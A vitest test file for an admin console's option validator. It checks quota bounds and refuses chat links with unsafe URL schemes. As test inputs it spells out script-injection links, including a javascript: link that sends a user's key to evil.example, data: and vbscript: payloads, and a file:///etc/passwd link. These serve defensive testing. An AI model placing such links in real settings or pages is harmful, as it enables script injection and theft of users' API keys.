import { describe, expect, it } from 'vitest';
import { serverForTests } from '../../testing/test-server';
import { callerForTests } from '../../testing/channel-fixtures';
import { optionCalls } from '../../testing/option-calls';

describe('options that would break the console or run script in it are refused, nothing changed', () => {
  const server = serverForTests();
  const root = callerForTests(server);

  const { put, stored } = optionCalls(root);

  it.each([
    ['0', 'QuotaPerUnit cannot be less than 1'],
    ['-5', 'QuotaPerUnit cannot be less than 1'],
    ['1e308', 'QuotaPerUnit cannot be greater than 1000000000'],
    ['Infinity', 'QuotaPerUnit must be a number'],
  ])('QuotaPerUnit %s is refused', async (value, message) => {
    expect(await put('QuotaPerUnit', value)).toMatchObject({ success: false, message });
    expect(await stored('QuotaPerUnit')).toBe('500000');
    expect(server.context.options.number('QuotaPerUnit')).toBe(500000);
  });

  it('QuotaPerUnit within 1 to 1e9 is saved', async () => {
    expect((await put('QuotaPerUnit', '1000000')).success).toBe(true);
    expect(await stored('QuotaPerUnit')).toBe('1000000');
    expect((await put('QuotaPerUnit', 500000)).success).toBe(true);
  });

  const chats = (link: string) => JSON.stringify([{ Safe: 'https://chat.example/?key={key}' }, { Evil: link }]);

  it.each([
    ['javascript:fetch(`//evil.example/?k={key}`)', 'javascript'],
    ['  JavaScript:alert({key})', 'javascript'],
    ['java\tscript:alert({key})', 'javascript'],
    ['data:text/html,<script>alert("{key}")</script>', 'data'],
    ['vbscript:msgbox("{key}")', 'vbscript'],
    ['file:///etc/passwd', 'file'],
  ])('a chat link %j is refused in Chats, ChatLink and ChatLink2', async (link, scheme) => {
    const before = await stored('Chats');
    expect(await put('Chats', chats(link))).toMatchObject({
      success: false,
      message: `Chats: the link "Evil" uses the unsafe scheme ${scheme}: (javascript:, data:, vbscript: and file: are not allowed)`,
    });
    expect(await stored('Chats')).toBe(before);
    for (const key of ['ChatLink', 'ChatLink2']) {
      expect(await put(key, link)).toMatchObject({
        success: false,
        message: `${key}: the link "${key}" uses the unsafe scheme ${scheme}: (javascript:, data:, vbscript: and file: are not allowed)`,
      });
      expect(await stored(key)).toBe('');
    }
  });

  it('answers in Chinese too', async () => {
    expect(await put('Chats', chats('javascript:alert(1)'), 'zh')).toMatchObject({
      success: false,
      message: 'Chats 中“Evil”的链接使用了不安全的协议 javascript:（不允许 javascript:、data:、vbscript:、file:）',
    });
  });

  it('web links and apps’ own schemes are saved', async () => {
    const value = JSON.stringify([
      { Web: 'https://chat.example/?key={key}' },
      { App: 'opencat://team/join?domain={address}&token={key}' },
    ]);
    expect((await put('Chats', value)).success).toBe(true);
    expect(await stored('Chats')).toBe(value);
    expect((await put('ChatLink', 'https://next.example')).success).toBe(true);
  });
});
